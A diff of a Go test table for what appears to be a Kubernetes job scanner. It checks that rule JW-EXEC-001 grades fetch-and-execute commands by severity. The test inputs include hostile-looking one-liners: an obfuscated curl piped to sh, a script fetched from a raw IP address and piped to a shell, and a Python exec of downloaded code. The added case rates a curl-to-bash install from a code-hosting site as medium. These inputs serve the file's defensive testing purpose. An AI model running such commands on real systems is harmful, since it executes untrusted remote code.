@@ -116,6 +116,7 @@ func TestRules(t *testing.T) {
 		{name: "obfuscated curl name", obj: job(sh(`c"u"rl -s https://x.example/a | s'h'`)), rule: "JW-EXEC-001", min: SeverityHigh},
 		{name: "positional parameters", obj: job(argv("/bin/sh", "-c", `curl -s "$0" | $1`, "http://80.94.92.241/gen.sh", "sh")), rule: "JW-EXEC-001", min: SeverityHigh},
 		{name: "python fetch exec", obj: job(argv("python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x.example/p').read())")), rule: "JW-EXEC-001", min: SeverityHigh},
+		{name: "script from a code-hosting site is medium", obj: job(sh("curl -fsSL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash")), rule: "JW-EXEC-001", min: SeverityMedium, max: SeverityMedium},
 		{name: "trusted installer host is low", obj: job(sh("curl -fsSL https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz | tar xz && ./linux-amd64/helm version")), notRule: []string{"JW-EXEC-001"}, max: SeverityLow},
 		{name: "kubectl from dl.k8s.io is low", obj: job(sh("curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client")), rule: "JW-EXEC-001", max: SeverityLow},
 		{name: "curl health check", obj: job(image("curlimages/curl:8.8.0"), sh("curl -fsS --max-time 5 http://orders.payments.svc:8080/healthz")), max: SeverityLow},
